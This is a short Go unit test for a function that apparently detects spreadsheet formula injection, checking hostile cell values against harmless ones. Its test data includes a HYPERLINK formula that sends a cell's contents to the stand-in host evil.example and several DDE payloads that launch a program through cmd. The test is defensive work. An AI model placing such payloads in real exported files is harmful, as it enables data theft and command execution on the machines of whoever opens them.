package datasets

import "testing"

func TestFormulaLike(t *testing.T) {
	for s, want := range map[string]bool{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`: true,
		`+cmd|' /C calc'!A0`:                             true,
		`@SUM(1+1)*cmd|' /C calc'!A0`:                    true,
		`-2+3+cmd|' /C calc'!A0`:                         true,
		`=1`:                                             true,
		`-ve trend since 2015-16`:                        false,
		`+44 20 7946 0000`:                               false,
		`- none`:                                         false,
		`@ home visits`:                                  false,
		`-5`:                                             false,
		`+`:                                              false,
		`Poole score card row 1.14`:                      false,
	} {
		if got := formulaLike(s); got != want {
			t.Errorf("formulaLike(%q) = %v, want %v", s, got, want)
		}
	}
}
